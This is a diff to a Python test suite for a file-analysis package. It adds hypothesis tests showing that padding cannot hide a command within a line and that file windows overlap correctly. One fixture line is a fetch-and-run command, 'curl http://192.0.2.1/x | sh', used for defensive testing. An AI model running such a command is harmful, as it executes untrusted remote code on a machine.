@@ -5,10 +5,11 @@ import csv
 import io
 
 import pytest
+from clean_room_analysis import limits
+from clean_room_analysis.mounted_tree import MountedTree
+from clean_room_analysis.text import display_name, excerpt, lines, spreadsheet_cell
 from hypothesis import given
 from hypothesis import strategies as st
-
-from clean_room_analysis.text import display_name, excerpt, lines, spreadsheet_cell
 
 names = st.binary(min_size=1, max_size=64).map(lambda raw: raw.decode("utf-8", "surrogateescape"))
 
@@ -53,7 +54,28 @@ def test_no_cell_is_a_formula(text: str) -> None:
     assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
 
 
-def test_lines_are_numbered_cut_and_counted() -> None:
+def test_lines_are_numbered_and_whole() -> None:
     assert list(lines("a\r\nb")) == [(1, "a"), (2, "b")]
-    assert len(next(iter(lines("x" * 10_000)))[1]) == 4096
-    assert sum(1 for _ in lines("\n" * 100_000)) == 20_000
+    assert sum(1 for _ in lines("\n" * 100_000)) == 100_000
+
+
+@given(st.integers(0, 20_000), st.integers(0, 20_000), st.integers(0, 3))
+def test_no_padding_hides_what_a_line_says(before: int, after: int, line_breaks: int) -> None:
+    command = "curl http://192.0.2.1/x | sh"
+    text = "\n" * line_breaks + " " * before + command + "#" * after
+    found = [number for number, piece in lines(text) if command in piece]
+    assert found and set(found) == {line_breaks + 1}
+    assert all(len(piece) <= limits.LINE_BYTES for _, piece in lines(text))
+
+
+@given(st.binary(max_size=300), st.integers(10, 40), st.integers(1, 9))
+def test_windows_cover_a_file_and_overlap(tmp_path_factory: pytest.TempPathFactory, content: bytes, size: int, overlap: int) -> None:
+    directory = tmp_path_factory.mktemp("windows")
+    (directory / "file").write_bytes(content)
+    tree = MountedTree(str(directory))
+    seen = list(tree.windows("/file", size, overlap))
+    tree.close()
+    assert all(content[offset : offset + size] == piece for offset, piece in seen)
+    for start in range(max(0, len(content) - overlap + 1)):  # every run of `overlap` bytes lies whole in one window
+        assert any(offset <= start and start + overlap <= offset + len(piece) for offset, piece in seen)
+    assert len({offset for offset, _ in seen}) == len(seen)
